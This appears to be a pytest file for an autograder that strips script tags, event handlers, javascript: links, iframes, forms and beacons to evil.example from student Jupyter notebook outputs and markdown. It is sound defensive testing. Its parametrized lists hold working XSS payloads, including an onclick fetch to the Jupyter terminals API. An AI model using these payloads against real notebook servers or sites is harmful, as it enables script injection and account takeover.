"""What a student's outputs and markdown become before anyone renders them (fast, no kernel)."""

from __future__ import annotations

import base64
import io

import nbformat
import pytest
from nbconvert import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell

from autograder.grading.sanitize import (
    NOTE,
    SanitizeOutputs,
    clean_html,
    clean_markdown,
    clean_output,
    clean_svg,
)

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()
TABLE = (
    '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th><th>loss</th>'
    "</tr></thead><tbody><tr><th>0</th><td>0.25</td></tr></tbody></table>"
)

# payload -> (what must be gone from the sanitized HTML, what the note names, what must stay)
HTML_PAYLOADS = [
    ("<script>window.PWNED=1</script><b>hi</b>", ["<script"], ["<script>"], ["<b>hi</b>"]),
    ("<img src=x onerror=alert(1)>", ["onerror"], ["onerror="], ['<img src="x">']),
    ('<a href="javascript:alert(1)">link</a>', ["javascript:"], ['href="javascript:..."'], ["link</a>"]),
    ('<a href="java&#x09;script:alert(1)">link</a>', ["script:"], ["href="], ["link</a>"]),
    ('<a href="&#106;avascript:alert(1)">link</a>', ["avascript"], ["href="], ["link</a>"]),
    # html5lib does not decode &colon;: the & is escaped and the URL stays a harmless relative one
    ('<a href="JaVaScRiPt&colon;alert(1)">link</a>', ["&colon;"], [], ['href="JaVaScRiPt&amp;colon;']),
    ('<iframe src="/api/contents"></iframe>after', ["<iframe"], ["<iframe>"], ["after"]),
    (
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">m',
        ["<meta", "refresh"],
        ["<meta>"],
        ["m"],
    ),
    ('<object data="x.swf"></object><embed src="y.swf">', ["<object", "<embed"], ["<object>", "<embed>"], []),
    (
        '<form action="http://evil.example/"><input name="a"><button>go</button></form>',
        ["<form", "<input", "<button", "action="],
        ["<form>", "<input>"],
        ["go"],
    ),
    ("<style>@import url(http://evil.example/x.css);</style>text", ["<style"], ["<style>"], ["text"]),
    (
        '<p style="color: red; background: url(http://evil.example/beacon)">t</p>',
        ["url(", "background"],
        ["style background"],
        ['<p style="color: red;">t</p>'],
    ),
    ('<img src="http://evil.example/beacon.png">', ["evil.example"], ['src="http:..."'], ["<img>"]),
    ("<!--><script>alert(1)</script>-->", ["<script"], ["<script>"], []),
    (
        '<div onmouseover="alert(1)" class="x">d</div>',
        ["onmouseover"],
        ["onmouseover="],
        ['<div class="x">d</div>'],
    ),
    ('<svg onload="alert(1)"><circle r="3"/></svg>', ["<svg", "onload"], ["<svg>", "onload="], []),
    ('<base href="http://evil.example/">', ["<base"], ["<base>"], []),
]


@pytest.mark.parametrize("payload, gone, named, kept", HTML_PAYLOADS, ids=[p[0][:30] for p in HTML_PAYLOADS])
def test_html_payloads(payload, gone, named, kept):
    """Does each hostile HTML fragment lose its active part, named in the report, and keep the rest?"""
    safe, removed = clean_html(payload)
    for part in gone:
        assert part.lower() not in safe.lower(), f"{part!r} survived in {safe!r}"
    for name in named:
        assert any(name in r for r in removed), f"{name!r} not reported in {removed}"
    for part in kept:
        assert part in safe, f"{part!r} lost from {safe!r}"


@pytest.mark.parametrize(
    "harmless",
    [
        TABLE,
        f'<img src="data:image/png;base64,{PNG}" width="200" alt="plot">',
        '<p><b>bold</b> <i>it</i> <code>x &lt; y</code> <a href="https://pytorch.org">docs</a></p>',
        '<ul><li>one</li></ul><h2 id="results">Results</h2><span style="color: green;">ok</span>',
        '<img src="plots/loss.png">',
    ],
    ids=["table", "data-png", "formatting", "lists-headings", "relative-img"],
)
def test_harmless_html_passes(harmless):
    """Does harmless HTML (a pandas table, an inline PNG, formatting) pass whole, with no note?"""
    safe, removed = clean_html(harmless)
    assert removed == []
    assert safe == harmless


def test_data_urls_other_than_images_are_removed():
    """Is an <img> or link with a data: URL of another type (HTML, SVG) stripped of it?"""
    safe, removed = clean_html(
        '<img src="data:text/html;base64,PHNjcmlwdD4="><a href="data:text/html,x">a</a>'
    )
    assert "data:" not in safe and len(removed) == 2


SVG_PAYLOADS = [
    (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="5" height="5"/></svg>',
        ["<script"],
        "<script>",
    ),
    (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="3"/></svg>',
        ["onload"],
        "onload=",
    ),
    (
        '<svg><foreignObject><iframe src="/"></iframe></foreignObject><path d="M0 0"/></svg>',
        ["foreignobject", "iframe"],
        "<foreignobject>",
    ),
    ('<svg><use xlink:href="http://evil.example/x.svg#a"/></svg>', ["evil.example"], 'href="http:..."'),
    ('<svg><a href="javascript:alert(1)"><text>t</text></a></svg>', ["javascript"], "<a>"),
]


@pytest.mark.parametrize("payload, gone, named", SVG_PAYLOADS, ids=[p[0][40:70] for p in SVG_PAYLOADS])
def test_svg_payloads(payload, gone, named):
    """Does an SVG with a script, a handler, foreign HTML or an outside reference lose it?"""
    safe, removed = clean_svg(payload)
    for part in gone:
        assert part not in safe.lower(), f"{part!r} survived in {safe!r}"
    assert any(named in r for r in removed), removed


def test_matplotlib_svg_keeps_its_drawing():
    """Does a real matplotlib SVG keep its paths and text (only its <style> goes)?"""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 2))
    ax.plot([0, 1], [1, 0])
    ax.set_title("loss")
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    safe, removed = clean_svg(buf.getvalue())
    assert safe.startswith("<svg") and safe.count("<path") >= 3
    assert set(removed) <= {"<style>", "style type="}, removed
    assert 'href="#' in safe  # markers drawn with <use> still point at their definitions


def active_parts(page: str) -> tuple[list[str], list[str], list[str]]:
    """Every tag of an HTML page as '<name', the text of its <script>s, its attributes as 'name=value'."""
    from html.parser import HTMLParser

    class Parts(HTMLParser):
        tags, scripts, attributes, in_script = [], [], [], False

        def handle_starttag(self, tag, attrs):
            self.in_script = tag == "script"
            self.tags.append(f"<{tag}")
            self.attributes += [f"{k}={v}" for k, v in attrs]

        def handle_data(self, data):
            if self.in_script:
                self.scripts.append(data)

    parts = Parts()
    parts.feed(page)
    return parts.tags, parts.scripts, parts.attributes


MARKDOWN_PAYLOADS = [
    ("Answer <img src=x onerror=alert(1)>", ["onerror"], "onerror="),
    ("<script>alert(1)</script>\n\nmy answer", ["<script"], "<script>"),
    ("[click me](javascript:alert(1))", ["javascript:"], 'href="javascript:..."'),
    ('<iframe src="/api/contents"></iframe>', ["<iframe"], "<iframe>"),
    ("<a href=\"#\" onclick=\"fetch('/api/terminals', {method: 'POST'})\">x</a>", ["onclick"], "onclick="),
]


@pytest.mark.parametrize("source, gone, named", MARKDOWN_PAYLOADS, ids=[p[0][:25] for p in MARKDOWN_PAYLOADS])
def test_markdown_payloads(source, gone, named):
    """Does markdown with hostile raw HTML render, as nbconvert renders it, without it, and say so?"""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    new, removed = clean_markdown(source, note="[grader] removed from this cell: ")
    rendered = markdown2html_mistune(new)
    tags, scripts, attributes = active_parts(rendered)
    for part in gone:
        assert not [x for x in tags + attributes if part in x.lower()], f"{part!r} survived in {rendered!r}"
    assert any(named in r for r in removed), removed
    assert "[grader] removed from this cell" in rendered


@pytest.mark.parametrize(
    "source",
    [
        "# Results\n\nThe loss is $\\frac{1}{N}\\sum_i x_i$ and `a < b`.\n\n> quoted\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n",
        "![plot](loss.png) and a [link](https://pytorch.org)",
    ],
    ids=["markdown", "image-link"],
)
def test_plain_markdown_is_unchanged(source):
    """Is markdown without raw HTML or dangerous links left exactly as the student wrote it?"""
    assert clean_markdown(source, note="x") == (source, [])


def test_harmless_raw_html_in_markdown_keeps_its_rendering():
    """Does markdown with harmless raw HTML (<b>, <br>) render the same, without a note?"""
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    source = "Some <b>bold</b> text<br>and a line"
    new, removed = clean_markdown(source, note="[grader] ")
    assert removed == []
    assert "<b>bold</b>" in markdown2html_mistune(new) and "[grader]" not in new


def test_javascript_output_is_replaced_by_a_note():
    """Is an application/javascript output dropped and replaced by a visible note?"""
    out = new_output("display_data", data={"application/javascript": "window.PWNED = 1"})
    (note,) = clean_output(out)
    assert note.output_type == "stream" and note.name == "stdout"
    assert note.text.startswith(NOTE) and "application/javascript" in note.text


def test_output_keeps_safe_parts_and_adds_a_note():
    """Does a display with text/plain, PNG and hostile HTML keep text and PNG, clean the HTML, add a note?"""
    out = new_output(
        "execute_result",
        execution_count=1,
        data={
            "text/plain": "<IPython.core.display.HTML object>",
            "image/png": PNG,
            "text/html": "<script>x()</script><b>ok</b>",
            "application/vnd.jupyter.widget-view+json": {"model_id": "m"},
        },
    )
    kept, note = clean_output(out)
    assert kept is out
    assert set(kept.data) == {"text/plain", "image/png", "text/html"}
    assert kept.data["image/png"] == PNG and kept.data["text/html"] == "x()<b>ok</b>"
    assert "<script>" in note.text and "widget-view" in note.text


def test_clean_outputs_are_untouched():
    """Do text, PNG, an error and a harmless table pass without a note?"""
    outs = [
        new_output("stream", name="stdout", text="<script>not html</script>"),
        new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
        new_output("display_data", data={"text/html": TABLE, "text/plain": "df"}),
        new_output("error", ename="ValueError", evalue="<b>", traceback=["<script>"]),
    ]
    for out in outs:
        assert clean_output(nbformat.from_dict(out)) == [out]


def hostile_notebook():
    nb = new_notebook(
        cells=[
            new_code_cell(
                "x",
                outputs=[
                    new_output(
                        "display_data",
                        data={
                            "text/html": "<script>window.PWNED_BY_STUDENT = 1</script><b>hello</b>",
                            "text/plain": "<HTML>",
                        },
                    ),
                    new_output(
                        "display_data", data={"application/javascript": "window.PWNED_BY_STUDENT = 2"}
                    ),
                    new_output(
                        "display_data", data={"text/html": "<img src=x onerror='window.PWNED_BY_STUDENT=3'>"}
                    ),
                    new_output(
                        "display_data",
                        data={"text/markdown": "<img src=x onerror='window.PWNED_BY_STUDENT=4'>"},
                    ),
                    new_output(
                        "display_data",
                        data={"image/svg+xml": "<svg onload='window.PWNED_BY_STUDENT=5'></svg>"},
                    ),
                    new_output("stream", name="stdout", text="honest text\n"),
                    new_output("display_data", data={"image/png": PNG, "text/plain": "<Figure>"}),
                    new_output("display_data", data={"text/html": TABLE}),
                ],
            ),
            new_markdown_cell("My answer <img src=x onerror='window.PWNED_BY_STUDENT=6'>"),
            new_raw_cell("<script>window.PWNED_BY_STUDENT = 7</script>", metadata={"format": "text/html"}),
        ]
    )
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    return nb


def test_preprocessor_cleans_a_notebook_and_nbconvert_renders_no_student_script():
    """Does SanitizeOutputs leave nothing of the student's that nbconvert would render as script?"""
    nb, _ = SanitizeOutputs().preprocess(hostile_notebook(), {})
    body, _ = HTMLExporter(template_name="classic", skip_svg_encoding=True).from_notebook_node(nb)
    _, scripts, attributes = active_parts(body)
    assert not [s for s in scripts if "PWNED" in s], "a student script would run"
    assert not [a for a in attributes if "PWNED" in a], "a student event handler would run"
    assert "honest text" in body and f"data:image/png;base64,{PNG}" in body and "<td>0.25</td>" in body
    assert "widgets" not in nb.metadata
    assert body.count("[grader] removed from this") >= 6


def test_preprocessor_is_idempotent():
    """Does a second pass (generate_feedback after autograde) change nothing and add no note?"""
    once, _ = SanitizeOutputs().preprocess(hostile_notebook(), {})
    before = nbformat.writes(once)
    twice, _ = SanitizeOutputs().preprocess(nbformat.reads(before, 4), {})
    assert nbformat.writes(twice) == before


def test_locked_markdown_of_the_source_is_left_alone():
    """Is a locked markdown cell (the course's own text, restored from the source) not rewritten?"""
    cell = new_markdown_cell(
        "<div class='alert'>Instructions <img src=x onerror=y></div>",
        metadata={"nbgrader": {"locked": True, "solution": False, "grade": False, "grade_id": "intro"}},
    )
    nb, _ = SanitizeOutputs().preprocess(new_notebook(cells=[cell]), {})
    assert nb.cells[0].source == cell.source
